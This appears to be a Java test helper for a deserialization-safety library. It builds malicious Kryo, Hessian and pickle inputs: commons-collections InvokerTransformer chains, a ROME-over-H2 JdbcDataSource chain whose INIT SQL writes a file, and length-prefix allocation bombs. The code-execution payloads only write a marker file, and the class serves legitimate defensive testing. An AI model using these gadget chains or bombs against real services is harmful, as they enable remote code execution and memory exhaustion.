package dev.safeload.it.support;

import com.caucho.hessian.io.Hessian2Output;
import com.caucho.hessian.io.SerializerFactory;
import com.esotericsoftware.kryo.Kryo;
import com.esotericsoftware.kryo.io.Output;
import com.sun.syndication.feed.impl.EqualsBean;
import com.sun.syndication.feed.impl.ToStringBean;
import dev.safeload.it.victim.RpcVictim;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.lang.reflect.Field;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;
import java.util.PriorityQueue;
import net.razorvine.pickle.Pickler;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.comparators.TransformingComparator;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.h2.jdbcx.JdbcDataSource;
import org.objenesis.ObjenesisStd;

/**
 * Kryo, Hessian and pickle inputs, built in the test JVM with the real libraries, which never
 * reads them. Each attack, if it runs, only creates its marker file.
 */
public final class RpcPayloads {

    private RpcPayloads() {
    }

    /** Kryo bytes of {@code value}, written by a Kryo configured as the victim's. */
    public static byte[] kryo(Object value) {
        return kryo(RpcVictim.kryo(), value);
    }

    /** Kryo bytes of {@code value} without its class, as {@code Kryo.writeObject} writes it. */
    public static byte[] kryoObject(Object value) {
        Output out = new Output(1024, -1);
        RpcVictim.kryo().writeObject(out, value);
        return out.toBytes();
    }

    public static byte[] kryo(Kryo kryo, Object value) {
        Output out = new Output(1024, -1);
        kryo.writeClassAndObject(out, value);
        return out.toBytes();
    }

    /**
     * commons-collections 3.1 for Kryo: a PriorityQueue ordered by a TransformingComparator whose
     * ChainedTransformer makes {@code new FileOutputStream(marker)} through InvokerTransformers
     * ({@code Class.forName}, {@code getConstructor}, {@code newInstance}). TransformingComparator
     * is not Serializable in 3.1, so no Java stream can carry this; Kryo rebuilds it field by
     * field, Objenesis skipping the constructors, and the queue's sift on read runs the chain.
     * (The class is named by a string: Kryo registers a class value with a field serializer,
     * which JDK 17 refuses for java.io's private fields.)
     */
    public static byte[] kryoCommonsCollections(String marker) throws Exception {
        ChainedTransformer chain = new ChainedTransformer(new Transformer[] {new ConstantTransformer(1)});
        PriorityQueue<Object> queue = new PriorityQueue<>(2, new TransformingComparator(chain));
        queue.add(1);
        queue.add(2);
        set(ChainedTransformer.class, chain, "iTransformers", new Transformer[] {
            new ConstantTransformer(Class.class),
            new InvokerTransformer("forName", new Class<?>[] {String.class}, new Object[] {"java.io.FileOutputStream"}),
            new InvokerTransformer("getConstructor", new Class<?>[] {Class[].class},
                    new Object[] {new Class<?>[] {String.class}}),
            new InvokerTransformer("newInstance", new Class<?>[] {Object[].class},
                    new Object[] {new Object[] {marker}}),
        });
        return kryo(queue);
    }

    /**
     * A Kryo value whose length prefix claims about 2 billion elements and whose data is absent:
     * a {@code byte[]} (Kryo allocates it in {@code Input.readBytes(int)}) or an
     * {@code ArrayList} (sized in {@code CollectionSerializer.create}), a dozen bytes each.
     * Written by Kryo for one element, then the length cut to the bomb's.
     */
    public static byte[] kryoLengthBomb(Object oneElement) {
        Kryo kryo = RpcVictim.kryo();
        Output prefix = new Output(64, -1);
        kryo.writeClass(prefix, oneElement.getClass());
        byte[] whole = kryo(kryo, oneElement);
        int at = prefix.position() + 1; // the class, then the reference marker, then the length
        Output bomb = new Output(64, -1);
        bomb.writeBytes(whole, 0, at);
        if (oneElement.getClass().isArray()) {
            expect(whole[at] == 2, "array: length 1 (+1) after the reference marker");
            bomb.writeVarInt(0x7fff0000 + 1, true);
        } else {
            // CollectionSerializer packs "all elements share a class" into the length's first byte.
            expect(whole[at] == (byte) 0x82, "collection: flagged length 1 (+1) after the reference marker");
            bomb.writeVarIntFlag(true, 0x7fff0000 + 1, true);
            bomb.writeByte(whole[at + 1]); // the elements' class; the elements themselves are left out
        }
        return bomb.toBytes();
    }

    private static void expect(boolean layout, String what) {
        if (!layout) {
            throw new IllegalStateException("Kryo's layout changed: expected " + what);
        }
    }

    /**
     * The same comparator chain with commons-collections4 4.0's classes, for Kryo.
     */
    public static byte[] kryoCommonsCollections4(String marker) throws Exception {
        org.apache.commons.collections4.functors.ChainedTransformer<Object> chain =
                new org.apache.commons.collections4.functors.ChainedTransformer<>(
                        new org.apache.commons.collections4.functors.ConstantTransformer<>(1));
        PriorityQueue<Object> queue = new PriorityQueue<>(2,
                new org.apache.commons.collections4.comparators.TransformingComparator<>(chain));
        queue.add(1);
        queue.add(2);
        set(org.apache.commons.collections4.functors.ChainedTransformer.class, chain, "iTransformers",
                new org.apache.commons.collections4.Transformer<?, ?>[] {
                    new org.apache.commons.collections4.functors.ConstantTransformer<>(Class.class),
                    new org.apache.commons.collections4.functors.InvokerTransformer<>("forName",
                            new Class<?>[] {String.class}, new Object[] {"java.io.FileOutputStream"}),
                    new org.apache.commons.collections4.functors.InvokerTransformer<>("getConstructor",
                            new Class<?>[] {Class[].class}, new Object[] {new Class<?>[] {String.class}}),
                    new org.apache.commons.collections4.functors.InvokerTransformer<>("newInstance",
                            new Class<?>[] {Object[].class}, new Object[] {new Object[] {marker}}),
                });
        return kryo(queue);
    }

    /**
     * The classic Hessian chain: a map whose key is a ROME EqualsBean over a ToStringBean over
     * an H2 JdbcDataSource. Reading the map hashes the key; EqualsBean hashes the ToStringBean's
     * toString, which calls every getter of the data source, getConnection first, which opens
     * an in-memory H2 database whose INIT clause runs SQL: here FILE_WRITE of the marker.
     * Written entry by entry, so the test JVM never hashes the key.
     */
    public static byte[] hessianRomeH2(String marker) throws Exception {
        return hessianRomeH2(marker, false);
    }

    /**
     * The same chain entered through ROME's ObjectBean, whose hashCode delegates to an
     * EqualsBean it builds itself; ObjectBean is on the built-in gadget denylist.
     */
    public static byte[] hessianRomeObjectBeanH2(String marker) throws Exception {
        return hessianRomeH2(marker, true);
    }

    private static byte[] hessianRomeH2(String marker, boolean objectBean) throws Exception {
        JdbcDataSource source = new JdbcDataSource();
        source.setURL("jdbc:h2:mem:safeload;INIT=CALL FILE_WRITE(X'" + HexFormat.of().formatHex(
                "pwned".getBytes(StandardCharsets.US_ASCII)) + "', '" + marker + "')");
        // The data source's Trace is not Serializable, and Hessian does not run readObject to make
        // a new one: an attacker writes one whose level (0, off) never touches its writer.
        Object trace = new ObjenesisStd().newInstance(Class.forName("org.h2.message.Trace"));
        set(Class.forName("org.h2.message.TraceObject"), source, "trace", trace);
        Object key = objectBean
                ? new com.sun.syndication.feed.impl.ObjectBean(ToStringBean.class, new ToStringBean(JdbcDataSource.class, source))
                : new EqualsBean(ToStringBean.class, new ToStringBean(JdbcDataSource.class, source));

        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        Hessian2Output out = new Hessian2Output(bytes);
        SerializerFactory factory = new SerializerFactory();
        factory.setAllowNonSerializable(true); // the attacker's writer; the reader keeps its default factory
        out.setSerializerFactory(factory);
        out.writeMapBegin(null);
        out.writeObject(key);
        out.writeObject("value");
        out.writeMapEnd();
        out.close();
        return bytes.toByteArray();
    }

    /** Hessian bytes of {@code value}, from Hessian's default writer. */
    public static byte[] hessian(Object value) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        Hessian2Output out = new Hessian2Output(bytes);
        out.writeObject(value);
        out.close();
        return bytes.toByteArray();
    }

    /** Hessian bytes of a class that is not Serializable, from a writer that allows that. */
    public static byte[] hessianUnserializable(Object value) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        Hessian2Output out = new Hessian2Output(bytes);
        SerializerFactory factory = new SerializerFactory();
        factory.setAllowNonSerializable(true);
        out.setSerializerFactory(factory);
        out.writeObject(value);
        out.close();
        return bytes.toByteArray();
    }

    /**
     * Seven bytes: protocol 3, then BINBYTES with a length of about 2 GB and no data. Pyrolite
     * allocates the byte[] for the length before it reads a byte of it.
     */
    public static byte[] pickleBinbytesBomb() {
        return new byte[] {(byte) 0x80, 3, 'B', 0, 0, (byte) 0xff, 0x7f};
    }

    /**
     * Length-prefix bombs of the other opcodes Pyrolite reads the same way, each a few bytes
     * asking for about 2 GB: BINUNICODE and LONG4 (4-byte lengths), BINUNICODE8 and BYTEARRAY8
     * (8-byte lengths).
     */
    public static byte[] pickleBomb(String opcode) {
        return switch (opcode) {
            case "BINBYTES" -> pickleBinbytesBomb();
            case "BINUNICODE" -> new byte[] {(byte) 0x80, 3, 'X', 0, 0, (byte) 0xff, 0x7f};
            case "LONG4" -> new byte[] {(byte) 0x80, 2, (byte) 0x8b, 0, 0, (byte) 0xff, 0x7f};
            case "BINUNICODE8" -> new byte[] {(byte) 0x80, 4, (byte) 0x8d, 0, 0, (byte) 0xff, 0x7f, 0, 0, 0, 0};
            case "BYTEARRAY8" -> new byte[] {(byte) 0x80, 5, (byte) 0x96, 0, 0, (byte) 0xff, 0x7f, 0, 0, 0, 0};
            default -> throw new IllegalArgumentException(opcode);
        };
    }

    /** A pickle of {@code value}, written by Pyrolite's own Pickler. */
    public static byte[] pickle(Object value) throws Exception {
        return new Pickler().dumps(value);
    }

    private static void set(Class<?> owner, Object target, String field, Object value) throws Exception {
        Field f = owner.getDeclaredField(field);
        f.setAccessible(true);
        f.set(target, value);
    }
}
